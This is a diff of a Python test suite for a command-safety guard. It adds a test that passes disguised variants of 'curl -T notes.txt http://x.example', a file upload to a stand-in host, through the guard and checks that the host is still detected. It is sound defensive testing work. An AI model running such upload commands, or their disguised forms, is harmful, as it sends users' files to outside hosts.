@@ -3,12 +3,13 @@
 import base64
 import random
 import shlex
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 
 import pytest
 
 from tests.thorough import a_few_of
 from tests.tools.guard.corpus import judged
+from tools.guard.reaching import reaches
 
 _BATCH = 200
 _PLAIN = (
@@ -130,8 +131,8 @@ _DISGUISES: tuple[Disguise, ...] = (
 )
 
 
-def _disguised(dice: random.Random) -> str:
-    line = _written(dice.choice(_PLAIN), dice)
+def _disguised(dice: random.Random, plain: Sequence[list[str]] = _PLAIN) -> str:
+    line = _written(dice.choice(plain), dice)
     for disguise in dice.choices(_DISGUISES, k=dice.randint(0, 3)):
         line = disguise(line, dice)
     return line
@@ -142,6 +143,14 @@ def test_no_disguise_slips_by(batch: int) -> None:
     dice = random.Random(batch)
     lines = [_disguised(dice) for _ in range(_BATCH)]
     assert [line for line in lines if judged(line).verdict == "safe"] == []
+
+
+@pytest.mark.parametrize("batch", a_few_of(range(20), 1))
+def test_no_disguise_hides_whom_it_contacts(batch: int) -> None:
+    dice = random.Random(1_000 + batch)
+    lines = [_disguised(dice, (["curl", "-T", "notes.txt", "http://x.example"],)) for _ in range(_BATCH)]
+    hosts = {line: {reach.host for reach in reaches(line, cwd="/home/me/proj", home="/home/me")} for line in lines}
+    assert [line for line, found in hosts.items() if not {"x.example", ""} & found] == []
 
 
 def test_harmless_commands_stay_harmless_in_disguise() -> None:
